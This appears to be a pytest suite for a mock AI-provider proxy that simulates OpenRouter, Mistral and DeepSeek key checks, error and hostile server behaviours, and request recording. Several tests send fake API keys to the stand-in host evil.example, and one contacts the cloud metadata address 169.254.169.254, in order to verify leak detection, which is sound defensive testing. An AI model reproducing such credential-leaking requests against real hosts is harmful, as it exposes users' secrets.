"""The stand-in world keeps its promises, seen through its proxy by the product's HTTP client."""

from __future__ import annotations

import os
import re
import signal
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime
from email.utils import parsedate_to_datetime
from pathlib import Path

import httpx2
import pytest

from tests.world import Behaviour, World, key
from tests.world.keys import SHAPES, behaviour_of
from tests.world.messages import Reply, Site

PATIENCE_S = 0.3
ENOUGH_S = 10.0
CHECKS = {
    "openrouter": "https://openrouter.ai/api/v1/key",
    "mistral": "https://api.mistral.ai/v1/models",
    "deepseek": "https://api.deepseek.com/user/balance",
}
CHATS = {
    "openrouter": "https://openrouter.ai/api/v1/chat/completions",
    "mistral": "https://api.mistral.ai/v1/chat/completions",
    "deepseek": "https://api.deepseek.com/chat/completions",
}
FORMS = {
    "openrouter": r"sk-or-v1-[0-9a-f]{64}",
    "mistral": r"[A-Za-z0-9]{32}",
    "deepseek": r"sk-[a-z0-9]{32}",
}
ENDLESS = [
    Behaviour.HANGING,
    Behaviour.DRIPPING_HEADERS,
    Behaviour.DRIPPING_BODY,
    Behaviour.ENDLESS_BODY,
]

every_provider = pytest.mark.parametrize("provider", sorted(SHAPES))


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with World.start(tmp_path_factory.mktemp("world")) as world:
        yield world


@pytest.fixture
def client(world: World) -> Iterator[httpx2.Client]:
    with client_of(world) as client:
        yield client


def client_of(world: World) -> httpx2.Client:
    trust = ssl.create_default_context(cafile=str(world.ca_file))
    return httpx2.Client(proxy=world.proxy_url, verify=trust, timeout=ENOUGH_S, trust_env=False)


def bearer(presented: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {presented}"}


def check(client: httpx2.Client, provider: str, behaviour: Behaviour) -> httpx2.Response:
    return client.get(CHECKS[provider], headers=bearer(key(provider, behaviour)))


# Keys


@every_provider
@pytest.mark.parametrize("behaviour", Behaviour)
def test_every_key_has_its_providers_form_and_its_behaviour(
    provider: str, behaviour: Behaviour
) -> None:
    presented = key(provider, behaviour)

    assert re.fullmatch(FORMS[provider], presented)
    assert behaviour_of(provider, presented) is behaviour


@every_provider
def test_each_serial_gives_another_right_key(provider: str) -> None:
    keys = {key(provider, serial=serial) for serial in range(100)}

    assert len(keys) == 100
    assert {behaviour_of(provider, presented) for presented in keys} == {Behaviour.RIGHT}


@every_provider
def test_altered_shortened_and_missing_keys_are_wrong(provider: str) -> None:
    right = key(provider)
    altered = right[:-1] + ("0" if right[-1] != "0" else "1")

    for presented in (altered, right[:-1], right + "0", "", None):
        assert behaviour_of(provider, presented) is Behaviour.WRONG


def test_a_right_key_is_wrong_at_another_provider(client: httpx2.Client) -> None:
    answer = client.get(CHECKS["openrouter"], headers=bearer(key("deepseek")))

    assert answer.status_code == 401


# Providers


def test_openrouter_describes_a_right_key(client: httpx2.Client) -> None:
    answer = check(client, "openrouter", Behaviour.RIGHT)

    assert answer.status_code == 200
    assert answer.json()["data"]["label"].startswith("sk-or-v1-")
    assert answer.json()["data"]["limit_remaining"] is None


def test_openrouter_lists_its_models_to_anyone(client: httpx2.Client) -> None:
    answer = client.get("https://openrouter.ai/api/v1/models", headers=bearer("nonsense"))

    assert answer.status_code == 200


def test_mistral_lists_its_models_to_a_right_key(client: httpx2.Client) -> None:
    answer = check(client, "mistral", Behaviour.RIGHT)

    assert answer.json()["data"][0]["id"] == "mistral-small-latest"


def test_deepseek_tells_a_right_key_its_balance(client: httpx2.Client) -> None:
    answer = check(client, "deepseek", Behaviour.RIGHT)

    assert answer.json()["is_available"] is True
    assert answer.json()["balance_infos"][0]["total_balance"] == "10.00"


def test_deepseek_tells_a_right_key_that_its_balance_is_empty(client: httpx2.Client) -> None:
    answer = check(client, "deepseek", Behaviour.EMPTY_BALANCE)

    assert (answer.status_code, answer.json()["is_available"]) == (200, False)


@pytest.mark.parametrize(
    ("provider", "body"),
    [
        ("openrouter", {"error": {"code": 401, "message": "User not found."}}),
        ("mistral", {"detail": "Unauthorized"}),
    ],
)
def test_a_wrong_key_is_refused_in_the_providers_words(
    client: httpx2.Client, provider: str, body: object
) -> None:
    answer = check(client, provider, Behaviour.WRONG)

    assert (answer.status_code, answer.json()) == (401, body)


def test_deepseek_repeats_the_end_of_a_wrong_key(client: httpx2.Client) -> None:
    answer = check(client, "deepseek", Behaviour.WRONG)

    assert answer.status_code == 401
    assert answer.json()["error"]["type"] == "authentication_error"
    assert f"****{key('deepseek', Behaviour.WRONG)[-4:]}" in answer.json()["error"]["message"]


@every_provider
def test_a_right_key_gets_a_completion_by_the_model_it_asks_for(
    client: httpx2.Client, provider: str
) -> None:
    asked = {"model": "some-model", "messages": [{"role": "user", "content": "Hi"}]}

    answer = client.post(CHATS[provider], json=asked, headers=bearer(key(provider)))

    assert answer.json()["model"] == "some-model"
    assert answer.json()["choices"][0]["message"]["role"] == "assistant"


@every_provider
def test_an_empty_balance_ends_the_chat(client: httpx2.Client, provider: str) -> None:
    presented = key(provider, Behaviour.EMPTY_BALANCE)

    answer = client.post(CHATS[provider], json={"model": "m"}, headers=bearer(presented))

    assert answer.status_code == 402


@every_provider
def test_a_chat_without_a_model_is_a_bad_request(client: httpx2.Client, provider: str) -> None:
    answer = client.post(CHATS[provider], content=b"[]", headers=bearer(key(provider)))

    assert answer.status_code == 400


@every_provider
def test_an_address_that_a_provider_does_not_have_is_not_found(
    client: httpx2.Client, provider: str
) -> None:
    address = httpx2.URL(CHECKS[provider]).join("/nothing/here")

    answer = client.get(address, headers=bearer(key(provider)))

    assert answer.status_code == 404


# Trouble


@every_provider
@pytest.mark.parametrize(
    ("behaviour", "status"),
    [
        (Behaviour.NO_CREDIT, 402),
        (Behaviour.FORBIDDEN, 403),
        (Behaviour.RATE_LIMITED, 429),
        (Behaviour.RATE_LIMITED_UNTIL, 429),
        (Behaviour.SERVER_ERROR, 500),
        (Behaviour.UNAVAILABLE, 503),
    ],
)
def test_a_key_chooses_its_status(
    client: httpx2.Client, provider: str, behaviour: Behaviour, status: int
) -> None:
    answer = check(client, provider, behaviour)

    assert answer.status_code == status
    assert isinstance(answer.json(), dict)


@every_provider
def test_a_rate_limit_says_how_many_seconds_to_wait(client: httpx2.Client, provider: str) -> None:
    answer = check(client, provider, Behaviour.RATE_LIMITED)

    assert answer.headers["retry-after"] == "30"


@every_provider
def test_a_rate_limit_says_until_when_to_wait(client: httpx2.Client, provider: str) -> None:
    answer = check(client, provider, Behaviour.RATE_LIMITED_UNTIL)

    until = parsedate_to_datetime(answer.headers["retry-after"])
    assert 60 < (until - datetime.now(UTC)).total_seconds() <= 120


@every_provider
def test_html_comes_with_success(client: httpx2.Client, provider: str) -> None:
    answer = check(client, provider, Behaviour.HTML)

    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")


@every_provider
def test_json_of_the_wrong_shape_comes_with_success(client: httpx2.Client, provider: str) -> None:
    answer = check(client, provider, Behaviour.WRONG_SHAPE)

    assert answer.status_code == 200
    assert isinstance(answer.json(), list)


@every_provider
def test_a_hanging_key_is_never_answered(client: httpx2.Client, provider: str) -> None:
    presented = bearer(key(provider, Behaviour.HANGING))

    with pytest.raises(httpx2.ReadTimeout):
        client.get(
            CHECKS[provider], headers=presented, timeout=httpx2.Timeout(ENOUGH_S, read=PATIENCE_S)
        )


@every_provider
def test_a_dripping_body_goes_on_after_its_headers(client: httpx2.Client, provider: str) -> None:
    presented = bearer(key(provider, Behaviour.DRIPPING_BODY))

    with client.stream("GET", CHECKS[provider], headers=presented) as answer:
        pieces = answer.iter_raw()

        assert answer.status_code == 200
        assert [next(pieces) for _ in range(3)] == [b'{"data":', b" ", b" "]


def test_an_endless_body_comes_fast(client: httpx2.Client) -> None:
    presented = bearer(key("mistral", Behaviour.ENDLESS_BODY))
    started, received = time.monotonic(), 0

    with client.stream("GET", CHECKS["mistral"], headers=presented) as answer:
        for piece in answer.iter_raw():
            received += len(piece)
            if received > 8_000_000:
                break

    assert time.monotonic() - started < 2


def test_a_compressed_bomb_is_small_until_it_is_unpacked(client: httpx2.Client) -> None:
    presented = bearer(key("mistral", Behaviour.COMPRESSED_BOMB))
    unpacked = 0

    with client.stream("GET", CHECKS["mistral"], headers=presented) as answer:
        for piece in answer.iter_bytes():
            unpacked += len(piece)
            if unpacked > 20_000_000:
                break

    assert unpacked > 100 * answer.num_bytes_downloaded


@every_provider
@pytest.mark.parametrize("behaviour", [Behaviour.GARBAGE, Behaviour.CUT_BODY])
def test_a_broken_answer_breaks_the_protocol(
    client: httpx2.Client, provider: str, behaviour: Behaviour
) -> None:
    with pytest.raises(httpx2.RemoteProtocolError):
        check(client, provider, behaviour)


@every_provider
def test_a_redirect_leads_to_another_host(client: httpx2.Client, provider: str) -> None:
    answer = check(client, provider, Behaviour.REDIRECT_ELSEWHERE)

    assert (answer.status_code, answer.headers["location"]) == (302, "https://evil.example/")


@every_provider
def test_a_redirect_leads_out_of_tls(client: httpx2.Client, provider: str) -> None:
    answer = check(client, provider, Behaviour.REDIRECT_TO_HTTP)

    assert answer.status_code == 302
    assert answer.headers["location"] == CHECKS[provider].replace("https://", "http://")


# Recording


def test_a_request_is_recorded_once_with_all_that_was_sent(
    world: World, client: httpx2.Client
) -> None:
    presented = key("mistral", serial="recorded once")
    headers = bearer(presented) | {"X-Trace": "abc"}

    client.post(CHATS["mistral"] + "?a=b", json={"model": "m"}, headers=headers)

    [request] = world.requests(key=presented)
    assert (request.scheme, request.host, request.method) == ("https", "api.mistral.ai", "POST")
    assert (request.path, request.query) == ("/v1/chat/completions", "a=b")
    assert (request.header("X-Trace"), request.bearer) == ("abc", presented)
    assert request.body == b'{"model":"m"}'
    assert abs((datetime.now(UTC) - request.at).total_seconds()) < 10


def test_requests_are_found_by_host_path_and_method(world: World, client: httpx2.Client) -> None:
    presented = key("deepseek", serial="found")
    client.get(CHECKS["deepseek"], headers=bearer(presented))

    assert len(world.requests(key=presented, host="api.deepseek.com", path="/user/balance")) == 1
    assert world.requests(key=presented, host="openrouter.ai") == []
    assert world.requests(key=presented, path="/models") == []
    assert world.recorder.requests(key=presented, method="POST") == []


@pytest.mark.parametrize(
    "sent",
    [
        {"params": {"token": "s3cr&t"}},
        {"data": {"token": "s3cr&t"}},
        {"json": {"token": "s3cr&t"}},
        {"headers": {"X-Api-Key": "s3cr&t"}},
        {"auth": ("user", "s3cr&t")},
    ],
)
def test_a_credential_is_found_wherever_it_was_put(
    world: World, client: httpx2.Client, sent: dict[str, object]
) -> None:
    seen_before = len(world.requests(key="s3cr&t"))

    client.request("POST", "https://evil.example/", **sent)  # pyright: ignore[reportArgumentType]

    assert len(world.requests(key="s3cr&t")) == seen_before + 1


def test_only_the_start_of_a_large_body_is_kept(world: World, client: httpx2.Client) -> None:
    client.post("https://evil.example/large", content=b"x" * 1_000_000)

    [request] = world.requests(path="/large")
    assert request.body == b"x" * 65536


def test_a_followed_redirect_is_seen_to_arrive_without_the_credential(
    world: World, client: httpx2.Client
) -> None:
    presented = key("openrouter", Behaviour.REDIRECT_ELSEWHERE, serial="followed")

    answer = client.get(CHECKS["openrouter"], headers=bearer(presented), follow_redirects=True)

    assert answer.url.host == "evil.example"
    assert len(world.requests(key=presented, host="openrouter.ai")) == 1
    assert world.requests(key=presented, host="evil.example") == []


def test_a_credential_that_leaks_to_another_host_is_seen(
    world: World, client: httpx2.Client
) -> None:
    presented = key("openrouter", serial="leaked")

    client.get("https://evil.example/", headers=bearer(presented))

    assert len(world.requests(key=presented, host="evil.example")) == 1


def test_a_plain_request_through_the_proxy_is_seen_as_such(
    world: World, client: httpx2.Client
) -> None:
    presented = key("mistral", serial="in the clear")

    answer = client.get("http://api.mistral.ai/v1/models?x=y", headers=bearer(presented))

    [request] = world.requests(key=presented)
    assert answer.status_code == 200
    assert (request.scheme, request.path, request.query) == ("http", "/v1/models", "x=y")


def test_an_unknown_host_is_misdirected_and_recorded(world: World, client: httpx2.Client) -> None:
    answer = client.get("https://nobody.example/here")

    assert answer.status_code == 421
    assert len(world.requests(host="nobody.example", path="/here")) == 1


def test_a_host_header_that_tls_was_not_made_for_is_misdirected(client: httpx2.Client) -> None:
    answer = client.get(
        CHECKS["mistral"], headers=bearer(key("mistral")) | {"Host": "openrouter.ai"}
    )

    assert answer.status_code == 421


def test_a_connect_is_recorded_even_if_nothing_follows(world: World) -> None:
    with pytest.raises(httpx2.ConnectError), httpx2.Client(proxy=world.proxy_url) as distrustful:
        distrustful.get("https://distrusted.example:8443/")

    [connect] = world.recorder.connects(host="distrusted.example")
    assert connect.port == 8443
    assert world.requests(host="distrusted.example") == []


def test_a_literal_address_is_recorded_by_the_proxy(world: World, client: httpx2.Client) -> None:
    with pytest.raises(httpx2.ConnectError):
        client.get("https://169.254.169.254/latest/meta-data")

    assert len(world.recorder.connects(host="169.254.169.254")) == 1


# Waiting


def test_waiting_ends_when_the_requests_have_arrived(world: World, client: httpx2.Client) -> None:
    presented = key("mistral", serial="awaited")
    headers = bearer(presented)
    later = [
        threading.Thread(target=client.get, args=[CHECKS["mistral"]], kwargs={"headers": headers})
        for _ in range(2)
    ]

    for thread in later:
        thread.start()

    assert len(world.wait_for_requests(key=presented, count=2)) == 2
    for thread in later:
        thread.join()


def test_waiting_in_vain_says_what_had_arrived_instead(world: World, client: httpx2.Client) -> None:
    client.get("https://evil.example/instead")

    with pytest.raises(TimeoutError, match=r"GET evil\.example/instead"):
        world.wait_for_requests(key="never sent", timeout_s=0.05)


# Life


def test_one_connection_serves_many_requests(world: World, client: httpx2.Client) -> None:
    for _ in range(3):
        client.get("https://reused.example/")

    assert len(world.requests(host="reused.example")) == 3
    assert len(world.recorder.connects(host="reused.example")) == 1


def test_a_tests_own_site_answers_while_it_is_hosted(world: World, client: httpx2.Client) -> None:
    guest = Site(hosts=("guest.example",), answer=lambda _: Reply.of_json("welcome"))

    with world.hosting(guest):
        assert client.get("https://guest.example/").json() == "welcome"

    assert client.get("https://guest.example/").status_code == 421


def test_many_clients_are_served_at_once(world: World) -> None:
    def is_answered(serial: int) -> bool:
        with client_of(world) as client:
            presented = bearer(key("mistral", serial=serial))
            return client.get(CHECKS["mistral"], headers=presented).is_success

    with ThreadPoolExecutor(16) as threads:
        assert all(threads.map(is_answered, range(64)))


def test_a_world_starts_in_well_under_a_second(tmp_path: Path) -> None:
    started = time.monotonic()

    with World.start(tmp_path):
        assert time.monotonic() - started < 1


@pytest.mark.parametrize("behaviour", ENDLESS)
def test_an_endless_answer_ends_when_the_world_stops(tmp_path: Path, behaviour: Behaviour) -> None:
    with ThreadPoolExecutor() as threads:
        with World.start(tmp_path) as world:
            asked = threads.submit(read_to_the_end, world, behaviour)
            world.wait_for_requests(key=key("mistral", behaviour))
            with pytest.raises(TimeoutError):
                asked.result(timeout=PATIENCE_S)

        assert isinstance(asked.exception(timeout=2), httpx2.TransportError)


def read_to_the_end(world: World, behaviour: Behaviour) -> None:
    presented = bearer(key("mistral", behaviour))
    with (
        client_of(world) as client,
        client.stream("GET", CHECKS["mistral"], headers=presented, timeout=None) as answer,
    ):
        for _ in answer.iter_raw():
            pass


def test_the_environment_alone_leads_a_product_into_the_world(world: World) -> None:
    presented = key("openrouter", serial="by environment")
    product = f"import httpx2; httpx2.get({CHECKS['openrouter']!r}, headers={bearer(presented)!r})"

    subprocess.run([sys.executable, "-c", product], env=os.environ | world.environment, check=True)

    assert len(world.requests(key=presented, host="openrouter.ai")) == 1


@pytest.mark.parametrize("ending", [signal.SIGINT, signal.SIGTERM])
def test_a_developer_gets_the_environment_and_the_keys_printed(
    tmp_path: Path, ending: signal.Signals
) -> None:
    command = [sys.executable, "-m", "tests.world", "--directory", str(tmp_path / "new")]

    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        printed = [next(process.stdout) for _ in range(4 + len(SHAPES) * len(Behaviour))]
        process.send_signal(ending)

        assert process.wait(timeout=5) == 0
    assert printed[0].startswith("export HTTPS_PROXY=http://127.0.0.1:")
    assert f"export SSL_CERT_FILE={tmp_path}/new/world-ca.pem\n" in printed
    assert any(key("mistral", Behaviour.HTML) in line for line in printed)
